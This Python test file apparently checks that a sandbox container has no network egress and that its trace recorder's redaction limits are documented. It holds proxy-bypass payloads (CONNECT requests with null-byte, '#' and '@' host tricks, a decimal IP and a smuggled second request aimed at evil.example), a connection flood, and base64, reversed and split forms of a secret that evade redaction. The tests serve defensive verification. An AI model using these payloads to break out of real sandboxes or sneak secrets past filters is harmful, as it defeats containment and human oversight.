"""Attacks on the way out of a container that has none, and on secrets that were hidden from redaction."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest

from mindx.core.command import Exec
from mindx.errors import InputError
from mindx.policy.load import parse_policy
from mindx.trace.read import read
from mindx.trace.recorder import Recorder
from tests.wall.support import python, sh

pytestmark = pytest.mark.anyio
ROOT = Path(__file__).resolve().parents[2]
# What would get past a proxy that looks at the wrong thing; each is sent to every port that one usually has.
TRICKS = """
import json, socket
asked = [
    b"CONNECT allowed.example:443 HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n",
    b"CONNECT allowed.example\\0.evil.example:443 HTTP/1.1\\r\\n\\r\\n",
    b"CONNECT evil.example#allowed.example:443 HTTP/1.1\\r\\n\\r\\n",
    b"CONNECT allowed.example@192.0.2.1:443 HTTP/1.1\\r\\n\\r\\n",
    b"CONNECT 3221225985:443 HTTP/1.1\\r\\n\\r\\n",
    b"GET http://192.0.2.1/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n",
    b"CONNECT allowed.example.:443 HTTP/1.1\\r\\nX: a\\r\\n\\r\\nCONNECT 192.0.2.1:443 HTTP/1.1\\r\\n\\r\\n",
]
answers = []
for host in ("127.0.0.1", "::1", "127.1.2.3"):
    for port in (80, 443, 1080, 3128, 8080, 8118, 8888, 9050):
        for text in asked:
            try:
                with socket.create_connection((host, port), 1) as way:
                    way.sendall(text)
                    answers.append([host, port, repr(way.recv(100))])
            except OSError:
                pass
print(json.dumps(answers))
"""
FLOOD = """
import errno, json, socket, time
began, sent, errors = time.monotonic(), 0, set()
for turn in range(10_000):
    try:
        with socket.socket() as way:
            way.settimeout(1)
            way.connect(("192.0.2.1", 443))
            sent += way.send(b"x" * 65536)
    except OSError as error:
        errors.add(errno.errorcode.get(error.errno, str(error)))
print(json.dumps([sent, sorted(errors), time.monotonic() - began]))
"""


async def test_e3_there_is_no_proxy_to_be_tricked(sandbox):
    """Until there is egress, nothing listens inside, no variable names a proxy, and a policy cannot ask for one."""
    tricked = await sandbox.execute(python(TRICKS))
    assert json.loads(tricked.stdout) == [], tricked.stderr_text
    listening = await sandbox.execute(sh("cat /proc/net/tcp /proc/net/tcp6 /proc/net/udp | grep -v local_address; env"))
    assert b"proxy" not in listening.stdout.lower()
    assert not any(line.split()[3:4] == [b"0A"] for line in listening.stdout.splitlines())
    with pytest.raises(InputError, match="later version"):
        parse_policy(b"version: 1\negress: [allowed.example]\n", source="test")


async def test_e6_ten_thousand_connections_carry_no_byte_out(sandbox):
    flooded = await sandbox.execute(python(FLOOD, timeout_s=30))
    sent, errors, seconds = json.loads(flooded.stdout)
    assert (sent, errors) == (0, ["ENETUNREACH"])
    assert seconds < 20
    assert (await sandbox.execute(Exec(("true",)))).ok


def test_k4_what_was_split_or_encoded_is_not_claimed_to_be_found(tmp_path):
    """A whole secret is left out of the record; one in disguise is not, and SECURITY.md says so."""
    secret = "sk-canary-4f7d1c"
    disguised = (base64.b64encode(secret.encode()).decode(), secret[::-1], secret[:8] + "|" + secret[8:])
    with Recorder(tmp_path / "trace.jsonl", secrets=[secret]) as recorder:
        recorder.record("said", whole=f"the key is {secret}.", disguised=disguised)
    (told,) = read(tmp_path / "trace.jsonl")
    assert secret not in told.data["whole"]
    assert tuple(told.data["disguised"]) == disguised
    boundaries = (ROOT / "SECURITY.md").read_text("utf-8").partition("## What is not a boundary")[2]
    assert "**Redaction.**" in boundaries
